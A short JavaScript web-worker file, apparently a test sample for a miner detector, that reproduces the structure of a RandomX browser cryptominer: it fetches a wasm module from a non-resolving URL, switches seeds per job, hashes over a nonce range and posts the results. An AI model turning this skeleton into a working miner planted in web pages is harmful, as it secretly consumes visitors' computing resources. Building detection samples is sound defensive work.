// A RandomX web-miner worker: a wasm module with the RandomX light-mode VM, a dataset key
// (seed hash) per job, and a loop over nonces that posts results. Written for minewatch's detector
// tests; the module is fetched from a URL that does not resolve.
var vm = null;
var seed = "";

async function load() {
  var r = await WebAssembly.instantiateStreaming(fetch("https://cdn.invalid/rx.wasm"), {});
  vm = r.instance.exports;
}

addEventListener("message", async function (ev) {
  var job = ev.data;
  if (!vm) await load();
  if (job.seed_hash !== seed) {
    vm.rx_init(job.seed_hash);
    seed = job.seed_hash;
  }
  var found = [];
  var nonce = job.nonce_start;
  while (nonce < job.nonce_end) {
    var h = vm.rx_hash(job.blob, nonce);
    if (vm.rx_check(h, job.target)) found.push({ nonce: nonce, result: h });
    nonce += 1;
  }
  postMessage({ job_id: job.job_id, hashes: job.nonce_end - job.nonce_start, result: found });
});
